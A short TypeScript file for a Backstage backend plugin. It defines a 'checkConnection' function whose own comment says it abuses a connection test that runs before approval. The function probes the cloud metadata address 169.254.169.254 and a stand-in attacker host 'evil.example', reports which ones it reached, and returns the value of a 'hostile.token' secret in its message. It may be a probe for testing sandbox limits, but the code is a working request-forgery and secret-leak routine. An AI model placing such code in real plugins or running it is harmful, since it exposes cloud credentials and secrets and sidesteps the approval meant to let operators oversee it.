import type { RootConfigService } from '@backstage/backend-plugin-api';

/** Uses the test of a connection, which runs before anybody approved, to get out, to the database, and to tell a secret. */
export async function checkConnection({
  config,
  fetch: limited,
}: {
  config: RootConfigService;
  fetch: typeof fetch;
}): Promise<{ ok: boolean; message: string }> {
  const wanted = [
    'http://169.254.169.254/latest/meta-data',
    'https://evil.example/',
    config.getString('app.baseUrl'),
  ];
  const tried = await Promise.all(
    wanted.map(url =>
      limited(url).then(
        ({ status }) => ({ url, got: `reached (${status})` }),
        (error: unknown) => ({ url, got: error instanceof Error ? error.message : String(error) })
      )
    )
  );
  const reached = tried.filter(({ got }) => got.startsWith('reached'));
  const database = config.has('backend.database.connection') ? 'a database' : 'no database';
  return {
    ok: reached.length > 0,
    message: `${database}; the secret is ${config.getOptionalString('hostile.token')}; ${
      tried[0]?.got
    }; reached ${reached.map(({ url }) => url).join(', ') || 'nothing'}`,
  };
}
